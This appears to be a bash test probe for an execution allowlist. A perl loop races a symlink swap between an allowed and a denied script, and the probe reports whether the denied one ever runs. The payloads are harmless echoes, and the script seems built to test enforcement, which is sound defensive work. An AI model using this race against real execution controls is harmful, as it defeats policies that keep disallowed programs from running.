#!/bin/bash
# attack: a link to an allowed script is exchanged for one to a denied script, after the kernel read its first line
set -u
cd "$(mktemp -d "${WORKDIR:-/tmp}/own.XXXXXX")" || { echo "RESULT error workdir"; exit; }
result() { kill "$flip" 2>/dev/null; echo "RESULT $*"; exit; }
flip=
command -v perl >/dev/null || result error no-perl
printf '#!/bin/sh\necho fine\n' >good-tool; printf '#!/bin/sh\necho won\n' >denied-tool; chmod 755 ./*-tool
perl -e 'for (;;) { for my $to ("good-tool", "denied-tool") { symlink $to, "t"; rename "t", "s" } }' & flip=$!
for ((i = 0; i < 400; i++)); do [ "$(./s 2>/dev/null)" = won ] && result allowed; done
result blocked
